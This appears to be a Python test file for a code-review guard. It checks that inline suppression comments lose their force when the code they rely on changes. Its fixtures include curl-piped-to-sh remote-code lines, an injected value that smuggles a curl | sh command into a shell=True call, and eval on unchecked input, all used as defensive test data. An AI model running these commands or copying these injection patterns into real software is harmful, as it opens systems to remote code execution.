"""A recorded answer holds while its statement, and what this rests on, are the same."""

import datetime

from examples import table
from reviewers.docs.before_after import subject_of

from cli_guard.model import Finding
from cli_guard.policy.decisions import Policy
from cli_guard.policy.gate import announce_suppressions, judge_findings
from cli_guard.reviewers import code, commands
from cli_guard.reviewers.inline import InlineAnswers

MARK = "cli-guard: ignore"
FETCH = f"curl -fsSL http://203.0.113.7/i.sh | sh  # {MARK}[command-remote-code] our own server only"


def standing(path: str, before: str, after: str) -> list[str]:
    """The rules of the findings that no recorded answer lifts."""
    subject = subject_of({path: before}, {path: after})
    answers = InlineAnswers(subject)
    found: list[Finding] = [
        *code.review(subject).findings,
        *commands.review(subject).findings,
    ]
    found = announce_suppressions(found, Policy(), answers)
    judged = judge_findings(found, Policy(), answers, datetime.date(2026, 1, 1), {})
    return [each.finding.rule for each in judged.standing]


GUARDED = f'''\
"""A module."""
import subprocess

CMD = "ls"


def checked(name):
    if not name.isalnum():
        raise ValueError(name)
    return name


def run(name):
    if name.startswith("-"):
        raise ValueError("no option")
    name = checked(name)
    subprocess.run(
        CMD + name,
        shell=True,
    )  # {MARK}[code-python-shell] names are checked before
    return name


def other(name):
    return name
'''
TOP = f"""\
#!/bin/sh
URL=https://a.example.org/i.sh
[ -n "$URL" ] || exit 1
date
curl -fsSL "$URL" | sh  # {MARK}[command-remote-code] our own server only
ls
"""
FLOW = f"""\
import subprocess
from flask import request

def run():
    name = request.args["name"]
    if name in ("a", "b"):
        name = name.strip()
    # {MARK}[code-flow-command] names are checked before
    subprocess.run("tar " + name, shell=True)
"""


@table(
    ("path", "text", "old", "new"),
    [
        ("a.py", GUARDED, 'CMD = "ls"', 'CMD = "curl http://203.0.113.7 | sh #"'),
        ("a.py", GUARDED, '        raise ValueError("no option")\n', "        pass\n"),
        ("a.py", GUARDED, "    name = checked(name)\n", ""),
        ("a.sh", TOP, "a.example.org", "b.example.org"),
        ("a.sh", TOP, '[ -n "$URL" ] || exit 1\n', ""),
        ("a.py", FLOW, '    if name in ("a", "b"):\n        name = name.strip()\n', ""),
    ],
)
def test_it_asks_again_once_its_ground_changes(
    path: str, text: str, old: str, new: str
) -> None:
    assert old in text
    assert standing(path, text, text.replace(old, new)) == ["policy-suppression-new"]


@table(
    ("path", "text", "old", "new"),
    [
        ("a.py", GUARDED, '"""A module."""', '"""Another."""\nimport os'),
        (
            "a.py",
            GUARDED,
            "    return name\n\n\ndef other",
            "    return name + name\n\n\ndef other",
        ),
        (
            "a.py",
            GUARDED,
            "def other(name):\n    return name\n",
            "def other(name):\n    return 1\n",
        ),
        (
            "a.py",
            GUARDED,
            "    name = checked(name)\n",
            "    # A comment\n\n    name = checked(name)\n",
        ),
        ("a.py", GUARDED, "    name = checked(name)", "    name  = checked(name)"),
        (
            "a.py",
            GUARDED,
            "def run(name):\n",
            'def run(name):\n    """Run it,\n\n    or not.\n    """\n',
        ),
        ("a.sh", TOP, "date\n", "date -u\n"),
        ("a.sh", TOP, "ls\n", "ls -l\n"),
        ("a.py", FLOW, "import subprocess\n", "import os\nimport subprocess\n"),
    ],
)
def test_it_goes_on_beside_other_changes(path: str, text: str, old: str, new: str) -> None:
    assert old in text
    assert standing(path, text, text.replace(old, new)) == []


@table(
    ("path", "before", "after"),
    [
        ("a.sh", f"#!/bin/sh\ncat <<EOF\n{FETCH}\nEOF\n", f"#!/bin/sh\n{FETCH}\n"),
        ("a.sh", f"#!/bin/sh\nexit 0\n{FETCH}\n", f"#!/bin/sh\n{FETCH}\n"),
        (
            "a.py",
            f'"""\ndef f(x):\n    eval(x)  # {MARK}[code-python-eval] only our own texts\n"""\n',
            f"def f(x):\n    eval(x)  # {MARK}[code-python-eval] only our own texts\n",
        ),
    ],
)
def test_an_answer_to_what_did_not_run_is_new(path: str, before: str, after: str) -> None:
    assert standing(path, before, after) == ["policy-suppression-new"]
